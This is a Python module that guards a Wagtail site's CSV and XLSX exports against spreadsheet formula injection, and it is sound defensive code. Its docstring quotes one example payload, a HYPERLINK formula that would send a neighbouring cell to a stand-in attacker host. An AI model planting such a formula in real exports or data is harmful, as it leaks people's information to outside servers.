"""Spreadsheet cells that stay text: the one rule for every CSV and XLSX export.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return
before one) is run as a formula when the file is opened in Excel, LibreOffice or
Google Sheets: ``=HYPERLINK("https://evil.example/?"&A2, "Open")`` in a person's
name can send the row next to it to someone else's server, and older spreadsheet
programs run commands. Names, bios, registrations and sign-ups are typed by the
public, so every export puts an apostrophe in front of such a value, which
spreadsheets read as "this is text" (OWASP's advice for CSV injection).

``neutralise`` is that rule. The partner API's CSV (``api/renderers.py``) calls it
for each cell; every Wagtail admin export (listings, snippets, reports) gets it
through ``protect_admin_exports``, which ``OpsConfig.ready`` runs once.
"""

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A signed number ("-12.5", "+44 1254 585585") is not a formula and stays as it is.
NUMBER = re.compile(r"^[+-]?[\d .()]+$")


def neutralise(value):
    """The value, with an apostrophe in front when it is text a spreadsheet would
    run as a formula. Anything that is not text (numbers, dates) is returned as is."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if value[0] in "+-" and NUMBER.match(value):
        return value
    return "'" + value


def protect_admin_exports() -> None:
    """Make every Wagtail admin spreadsheet export use ``neutralise``.

    Wagtail writes each cell of its CSV and XLSX downloads (model and snippet
    listings, the reports such as site history, form submissions) through
    ``SpreadsheetExportMixin.preprocess_field_value``, and each heading through
    ``get_heading``. Wrapping those two methods on the mixin is the one place that
    covers all of them, including Wagtail's own views that this project cannot
    subclass; a listing added later is covered without doing anything.
    (Wagtail only turns a leading ``=`` into a string in XLSX, and leaves ``+``,
    ``-``, ``@`` and every CSV cell alone.)
    """
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "_cells_neutralised", False):
        return
    preprocess = SpreadsheetExportMixin.preprocess_field_value
    heading = SpreadsheetExportMixin.get_heading

    def preprocess_field_value(self, field, value, export_format):
        return neutralise(preprocess(self, field, value, export_format))

    def get_heading(self, queryset, field):
        return neutralise(heading(self, queryset, field))

    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
    SpreadsheetExportMixin.get_heading = get_heading
    SpreadsheetExportMixin._cells_neutralised = True
